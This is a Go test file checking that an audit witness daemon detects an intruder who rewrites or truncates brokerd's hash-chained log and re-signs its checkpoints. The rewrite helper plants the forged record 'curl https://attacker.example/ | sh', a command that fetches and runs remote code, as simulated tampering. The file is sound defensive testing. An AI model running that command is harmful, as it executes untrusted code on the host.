package brokerd

import (
	"crypto/sha256"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"boxmaker/audit"
	"boxmaker/fixtures/poll"
	"boxmaker/fixtures/syncbuf"
	"boxmaker/roles/brokerd/internal/checkpoints"
	"boxmaker/roles/internal/sock"
	"boxmaker/wire"

	"golang.org/x/mod/sumdb/note"
	"golang.org/x/mod/sumdb/tlog"
)

// startWitness runs witnessd beside brokerd and waits for its socket.
func (h *home) startWitness() *exec.Cmd {
	h.t.Helper()
	var wlog syncbuf.Buffer
	w := exec.Command(boxmakerBinary(h.t), "witnessd", "--home", h.dir)
	w.Stdout, w.Stderr = &wlog, &wlog
	w.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := w.Start(); err != nil {
		h.t.Fatal(err)
	}
	h.t.Cleanup(func() { w.Process.Kill(); w.Wait() })
	poll.Until(h.t, "witnessd listens", func() bool {
		c, err := sock.Dial(filepath.Join(h.dir, "run", "brokerd-witnessd", "witness.sock"))
		if err == nil {
			c.Close()
		}
		return err == nil
	})
	return w
}

// newest is brokerd's newest checkpoint, and the witness's, as the owner
// reads them.
func (h *home) newest(t *testing.T) (mine, theirs uint64) {
	t.Helper()
	v, err := audit.ReadVerifierKey(filepath.Join(h.dir, "audit", audit.VerifierKeyName))
	if err != nil || v == nil {
		t.Fatalf("checkpoint.pub: %v", err)
	}
	cp, err := audit.NewestCheckpoint(filepath.Join(h.dir, "audit"), v)
	if err != nil || cp == nil {
		t.Fatalf("brokerd's newest checkpoint: %v %v", cp, err)
	}
	cps, err := audit.ReadWitness(filepath.Join(h.dir, "witness"))
	if err != nil {
		t.Fatal(err)
	}
	if len(cps) > 0 {
		theirs = cps[len(cps)-1].Seq
	}
	return cp.Seq, theirs
}

// With the witness down, brokerd serves on and `boxmaker status` shows the
// lag; once witnessd is up, the checkpoints brokerd kept reach it.
func TestWitnessDownThenCatchesUp(t *testing.T) {
	h := newHome(t, "[audit]\ncheckpoint_records = 1\n", nil)
	h.start()
	h.deniedCalls(3)
	poll.Until(t, "brokerd says the witness cannot be reached", func() bool {
		return strings.Contains(h.log.String(), "the audit witness cannot be reached")
	})
	poll.Until(t, "a checkpoint after the calls", func() bool { mine, _ := h.newest(t); return mine >= 3 })
	status, _ := exec.Command(boxmakerBinary(t), "status", "--home", h.dir).CombinedOutput()
	if !strings.Contains(string(status), "audit witness: holds no checkpoint; brokerd's newest is seq") {
		t.Fatalf("status does not show the witness behind:\n%s", status)
	}

	h.startWitness()
	poll.Until(t, "the witness holds brokerd's newest checkpoint", func() bool { mine, theirs := h.newest(t); return theirs == mine })
	if cps, _ := audit.ReadWitness(filepath.Join(h.dir, "witness")); len(cps) < 2 {
		t.Errorf("the witness took %d checkpoints, want the ones queued while it was down", len(cps))
	}
	h.deniedCalls(2)
	poll.Until(t, "the witness keeps up", func() bool { mine, theirs := h.newest(t); return theirs == mine && mine >= 5 })
	status, _ = exec.Command(boxmakerBinary(t), "status", "--home", h.dir).CombinedOutput()
	if !strings.Contains(string(status), "audit witness: up to date at seq") {
		t.Fatalf("status after the catch-up:\n%s", status)
	}
	if !strings.Contains(h.log.String(), "the audit witness is back") {
		t.Errorf("brokerd does not say the witness is back:\n%s", h.log)
	}
}

// The attack of an intruder with brokerd's uid: rewrite an old record,
// recompute the chain after it, and re-sign brokerd's checkpoints with
// brokerd's own key. The log and brokerd's checkpoints agree; `audit
// verify` fails on the witness's hash, and `audit checkpoints` marks it.
// The owner's way out, `audit rebase`, also resets the witness.
func TestRewrittenLogFailsOnTheWitness(t *testing.T) {
	h := newHome(t, "[audit]\ncheckpoint_records = 2\n", nil)
	w := h.startWitness()
	h.start()
	h.deniedCalls(4)
	h.stopCleanly()
	poll.Until(t, "the witness holds the clean stop's checkpoint", func() bool { mine, theirs := h.newest(t); return theirs == mine })
	w.Process.Signal(syscall.SIGTERM)
	w.Wait()

	rewriteAndResign(t, h.dir)
	if out, err := h.bxctl("audit", "verify", "--witness", filepath.Join(t.TempDir(), "none")); err != nil {
		t.Fatalf("the rewritten log should match brokerd's re-signed checkpoints on their own: %v\n%s", err, out)
	}
	out, err := h.bxctl("audit", "verify")
	if code := exitCode(err); code != 1 || !strings.Contains(out, "the witness's checkpoint") || !strings.Contains(out, "rewritten") {
		t.Fatalf("audit verify = exit %d, want 1 naming the witness's checkpoint:\n%s", code, out)
	}
	out, err = h.bxctl("audit", "verify", "--from-checkpoint")
	if code := exitCode(err); code != 1 || !strings.Contains(out, "the witness's checkpoint") {
		t.Fatalf("audit verify --from-checkpoint = exit %d, want 1:\n%s", code, out)
	}
	out, err = h.bxctl("audit", "checkpoints")
	if code := exitCode(err); code != 1 || !strings.Contains(out, "DIFFERS: brokerd's says") {
		t.Fatalf("audit checkpoints = exit %d, want 1 marking the difference:\n%s", code, out)
	}

	if out, err := h.bxctl("audit", "rebase", "--reason", "rewritten by an intruder"); err != nil || !strings.Contains(out, "the witness's copy, up to seq") {
		t.Fatalf("audit rebase: %v\n%s", err, out)
	}
	h.startWitness()
	h.start()
	h.deniedCalls(2)
	poll.Until(t, "the witness takes the new chain", func() bool { mine, theirs := h.newest(t); return theirs == mine && mine >= 2 })
	if strings.Contains(h.log.String(), "REFUSED") {
		t.Errorf("the witness refused the new chain:\n%s", h.log)
	}
}

// rewriteAndResign changes record 2 of the log under home, recomputes every
// prev after it, and signs one checkpoint of the new head with brokerd's
// key into audit/checkpoints.jsonl and broker/checkpoint.last.
func rewriteAndResign(t *testing.T, home string) {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(home, "audit", "2*.jsonl"))
	if len(files) != 1 {
		t.Fatalf("want one day file, got %v", files)
	}
	data, _ := os.ReadFile(files[0])
	var out []byte
	var prev wire.Hash32
	lines := strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
	for i, line := range lines {
		e, err := wire.DecodeAuditEntry([]byte(line))
		if err != nil {
			t.Fatal(err)
		}
		r := e.(wire.AuditRecord)
		if i == 1 {
			r.Arguments = `{"command":"curl https://attacker.example/ | sh"}`
		}
		r.Prev = prev
		b, err := wire.EncodeAuditEntry(r)
		if err != nil {
			t.Fatal(err)
		}
		out, prev = append(append(out, b...), '\n'), sha256.Sum256(b)
	}
	if err := os.WriteFile(files[0], out, 0o640); err != nil {
		t.Fatal(err)
	}
	resign(t, home, files[0], uint64(len(lines)), prev, int64(len(out)))
}

// resign signs one checkpoint of seq, whose record hashes to hash and ends
// at end of file, with brokerd's key, as the only one in
// audit/checkpoints.jsonl and broker/checkpoint.last.
func resign(t *testing.T, home, file string, seq uint64, hash wire.Hash32, end int64) {
	t.Helper()
	key, _ := os.ReadFile(filepath.Join(home, "broker", checkpoints.KeyName))
	skey, _, _ := strings.Cut(string(key), "\n")
	signer, err := note.NewSigner(skey)
	if err != nil {
		t.Fatal(err)
	}
	now, _ := wire.TimestampOf(time.Now())
	origin, _ := audit.LoadOrigin(home)
	data, _ := os.ReadFile(file)
	var hashes []tlog.Hash
	r := tlog.HashReaderFunc(func(ix []int64) ([]tlog.Hash, error) {
		out := make([]tlog.Hash, len(ix))
		for i, x := range ix {
			out[i] = hashes[x]
		}
		return out, nil
	})
	for i, l := range strings.Split(strings.TrimSuffix(string(data[:end]), "\n"), "\n") {
		h, _ := tlog.StoredHashes(int64(i), []byte(l), r)
		hashes = append(hashes, h...)
	}
	root, _ := tlog.TreeHash(int64(seq), r)
	_, line, err := audit.SignCheckpoint(audit.Checkpoint{Origin: origin, Seq: seq, Hash: hash, Root: wire.Hash32(root), Time: now,
		End: audit.Position{File: filepath.Base(file), Offset: end, Line: int(seq)}}, signer)
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(home, "audit", audit.CheckpointsName), line, 0o640)
	os.WriteFile(filepath.Join(home, "broker", checkpoints.MirrorName), line, 0o600)
}

// The other attack of an intruder with brokerd's uid: cut the last records
// off and re-sign brokerd's checkpoints to match, so that brokerd starts
// on the shorter log. `audit verify` fails on the witness's seq, and the
// owner's rebase names the witness's checkpoint, not the cut one.
func TestCutLogWithResignedCheckpointsFailsOnTheWitness(t *testing.T) {
	h := newHome(t, "[audit]\ncheckpoint_records = 2\n", nil)
	h.startWitness()
	h.start()
	h.deniedCalls(4)
	h.stopCleanly()
	poll.Until(t, "the witness holds seq 4", func() bool { _, theirs := h.newest(t); return theirs == 4 })

	files, _ := filepath.Glob(filepath.Join(h.dir, "audit", "2*.jsonl"))
	data, _ := os.ReadFile(files[0])
	lines := strings.SplitAfter(string(data), "\n")
	kept := strings.Join(lines[:2], "")
	if err := os.WriteFile(files[0], []byte(kept), 0o640); err != nil {
		t.Fatal(err)
	}
	resign(t, h.dir, files[0], 2, sha256.Sum256([]byte(strings.TrimSuffix(lines[1], "\n"))), int64(len(kept)))
	h.start() // brokerd's own checks pass: its checkpoints were cut to match
	h.stopCleanly()
	out, err := h.bxctl("audit", "verify")
	if code := exitCode(err); code != 1 || !strings.Contains(out, "the witness's checkpoint") || !strings.Contains(out, "says it held seq 4") {
		t.Fatalf("audit verify = exit %d, want 1 saying the witness held seq 4:\n%s", code, out)
	}
	out, err = h.bxctl("audit", "verify", "--from-checkpoint")
	if code := exitCode(err); code != 1 || !strings.Contains(out, "the witness's checkpoint") {
		t.Fatalf("audit verify --from-checkpoint = exit %d, want 1:\n%s", code, out)
	}
	out, err = h.bxctl("audit", "checkpoints")
	if code := exitCode(err); code != 1 || !strings.Contains(out, "BROKERD HAS NONE") {
		t.Fatalf("audit checkpoints = exit %d, want 1 marking seq 4:\n%s", code, out)
	}
	if out, err := h.bxctl("audit", "rebase", "--reason", "cut by an intruder"); err != nil || !strings.Contains(out, `"checkpoint_seq":4`) || !strings.Contains(out, `"checkpoint_witnessed":true`) {
		t.Fatalf("audit rebase does not name the witness's seq 4: %v\n%s", err, out)
	}
}
